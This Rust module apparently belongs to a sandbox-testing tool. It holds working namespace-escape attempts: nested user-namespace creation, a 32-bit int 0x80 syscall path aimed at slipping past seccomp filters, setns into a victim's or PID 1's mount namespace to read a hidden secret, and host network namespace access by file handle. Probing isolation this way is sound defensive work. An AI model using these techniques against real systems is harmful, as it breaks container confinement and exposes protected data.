//! Namespaces: new ones, in which capabilities are to be had, and those of others.

use std::fs;
use std::os::unix::fs::MetadataExt as _;

use super::{Args, Attack, Attempt, Named as _, any_of, c, hold, in_child, steal, sys};

pub(crate) const ATTACKS: &[(&str, Attack)] = &[
    ("nested-unshare", nested_unshare),
    ("nested-clone", |_| born(sys::clone(NEWUSER).named("clone"))),
    ("nested-clone3", |_| {
        born(sys::clone3(NEWUSER as u64).named("clone3"))
    }),
    ("nested-i386", nested_i386),
    ("other-namespaces", other_namespaces),
    ("setns-host", setns_host),
    ("namespace-handle", namespace_handle),
];

pub(crate) const NEWNS: usize = 0x2_0000;
pub(crate) const NEWPID: usize = 0x2000_0000;
pub(crate) const NEWUSER: usize = 0x1000_0000;
pub(crate) const NEWNET: usize = 0x4000_0000;

/// New namespaces and a user namespace that owns them, in which this process has every capability
/// and, if it may, the ids that it had: files can be made by nobody else. Root may not map itself
/// where it lacks CAP_SETFCAP, and goes on without.
pub(crate) fn enter_new_user(flags: usize) -> Result<(), String> {
    let me = fs::metadata("/proc/self").named("/proc/self")?;
    sys::unshare(NEWUSER | flags).named("unshare")?;
    let _ = fs::write("/proc/self/setgroups", "deny");
    for (file, id) in [("uid_map", me.uid()), ("gid_map", me.gid())] {
        let _ = fs::write(format!("/proc/self/{file}"), format!("{id} {id} 1"));
    }
    Ok(())
}

fn nested_unshare(_: &Args) -> Attempt {
    sys::unshare(NEWUSER).named("unshare")?;
    hold();
    Ok("has a user namespace of its own".to_owned())
}

fn born(pid: Result<usize, String>) -> Attempt {
    match pid? {
        0 => {
            hold();
            std::process::exit(0);
        }
        pid => {
            let _ = sys::wait(i32::try_from(pid).unwrap_or(-1));
            Ok("had a child in a new user namespace".to_owned())
        }
    }
}

/// By the door of 32-bit programs, which a filter of system calls may have forgotten.
fn nested_i386(_: &Args) -> Attempt {
    match sys::int80(310, NEWUSER) {
        None => Err("there is no such door on this architecture".to_owned()),
        Some(0) => {
            hold();
            Ok("has a user namespace of its own".to_owned())
        }
        Some(errno) => Err(format!("unshare by int 0x80: errno {}", -errno)),
    }
}

/// Without a user namespace: only who has capabilities already can.
fn other_namespaces(_: &Args) -> Attempt {
    any_of([NEWNS, NEWNET].map(|flag| {
        sys::unshare(flag).named(format_args!("unshare {flag:x}"))?;
        Ok(format!("has a new namespace {flag:x}"))
    }))
}

/// Joins the namespaces of a process outside, or of the first one inside.
fn setns_host(args: &Args) -> Attempt {
    let secret = args.get("hidden").to_owned();
    let join = |fd: sys::Fd, kind: usize, what: &str| {
        sys::setns(fd, kind).named(format_args!("setns {what}"))?;
        steal(&secret)
    };
    any_of([args.pid("victim"), 1].map(|pid| {
        any_of([
            in_child(|| {
                let path = format!("/proc/{pid}/ns/mnt");
                let fd = sys::openat(sys::CWD, &c(&path), 0, 0).named(&path)?;
                join(fd as sys::Fd, NEWNS, &path)
            }),
            in_child(|| {
                let pidfd = sys::pidfd_open(pid).named("pidfd_open")?;
                join(pidfd as sys::Fd, NEWNS, "by pidfd")
            }),
        ])
    }))
}

/// The host's network namespace by its file handle (Linux 6.18).
fn namespace_handle(args: &Args) -> Attempt {
    let handle = args.handle("nshandle")?;
    const FD_NSFS_ROOT: sys::Fd = -10003;
    let fd = sys::open_by_handle(FD_NSFS_ROOT, &handle, 0).named("open_by_handle_at")?;
    let link = fs::read_link(format!("/proc/self/fd/{fd}")).named("readlink")?;
    hold();
    Ok(format!("holds {}", link.display()))
}
